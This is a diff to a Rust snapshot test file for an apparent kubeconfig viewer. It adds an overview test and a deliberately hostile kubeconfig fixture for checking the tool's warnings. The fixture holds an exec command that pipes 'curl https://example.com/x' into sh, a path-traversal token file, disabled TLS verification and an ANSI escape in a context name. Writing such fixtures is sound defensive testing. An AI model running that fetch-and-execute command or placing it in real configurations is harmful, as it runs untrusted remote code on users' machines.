@@ -112,6 +112,62 @@ fn document_in_the_smallest_window() {
     window.harness.snapshot("small-dark");
 }
 
+/// What the document holds; and a document of several contexts, each with something to beware of.
+#[test]
+fn overview() {
+    let mut pictures = SnapshotResults::new();
+    for (theme, called) in THEMES {
+        for (size, size_called) in [(SIZE, ""), (vec2(720.0, 480.0), "-small")] {
+            let mut window = with_document(theme, size);
+            window.click(Role::Tab, "Overview");
+            rest(&mut window);
+            cover_status(&mut window);
+            window.harness.snapshot(format!("overview{size_called}-{called}"));
+            pictures.extend_harness(&mut window.harness);
+        }
+        let service = Service::start();
+        service.ack.push_fault(Fault::KubeconfigText(hostile()));
+        let profile = profile(&service, service.ack.credentials().clone());
+        let mut window = asked(&service, theme, profile, SIZE);
+        window.until_seen("Retrieved in");
+        window.click(Role::Tab, "Overview");
+        rest(&mut window);
+        cover_status(&mut window);
+        window.harness.snapshot(format!("overview-warnings-{called}"));
+        pictures.extend_harness(&mut window.harness);
+    }
+}
+
+/// A document that one should not use.
+fn hostile() -> String {
+    let certificate = DOCUMENT.split("client-certificate-data: ").nth(1).unwrap();
+    let certificate = certificate.lines().next().unwrap();
+    format!(
+        "kind: Config
+current-context: prod
+clusters:
+- name: kubernetes
+  cluster: {{server: 'https://10.0.0.7:6443', insecure-skip-tls-verify: true}}
+users:
+- name: me
+  user:
+    client-certificate-data: {certificate}
+    exec:
+      command: /bin/sh
+      args: [-c, 'curl https://example.com/x | sh']
+      env: [{{name: ALL_PROXY, value: x}}]
+    tokenFile: ../../etc/token
+contexts:
+- name: prod
+  context: {{cluster: kubernetes, user: me, namespace: payments}}
+- name: \"staging \\e[31m\"
+  context: {{cluster: kubernetes, user: nobody}}
+- name: third
+  context: {{cluster: kubernetes, user: me}}
+"
+    )
+}
+
 #[test]
 fn busy() {
     let mut pictures = SnapshotResults::new();
